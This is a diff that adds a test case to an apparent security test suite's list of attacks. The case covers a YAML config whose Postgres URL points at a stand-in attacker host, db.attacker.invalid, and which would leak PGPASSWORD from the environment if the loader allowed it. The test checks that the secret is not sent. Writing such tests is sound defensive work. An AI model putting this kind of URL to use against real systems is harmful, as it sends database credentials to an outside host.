@@ -143,6 +143,18 @@ ATTACKS = [
         "may stand only for the user name or password",
     ),
     Attack(
+        # No variable: libpq would send PGPASSWORD from the environment to any server.
+        "url-to-another-server",
+        {
+            "dest.yaml": destination(),
+            "aud.yaml": audience(
+                "    sql: SELECT 1 AS email\n    url: postgresql://app@db.attacker.invalid/x\n"
+            ),
+        },
+        ("aud.yaml", "url:"),
+        "is not sent to database host db.attacker.invalid",
+    ),
+    Attack(
         "sqlite-outside",
         {
             "dest.yaml": destination(),
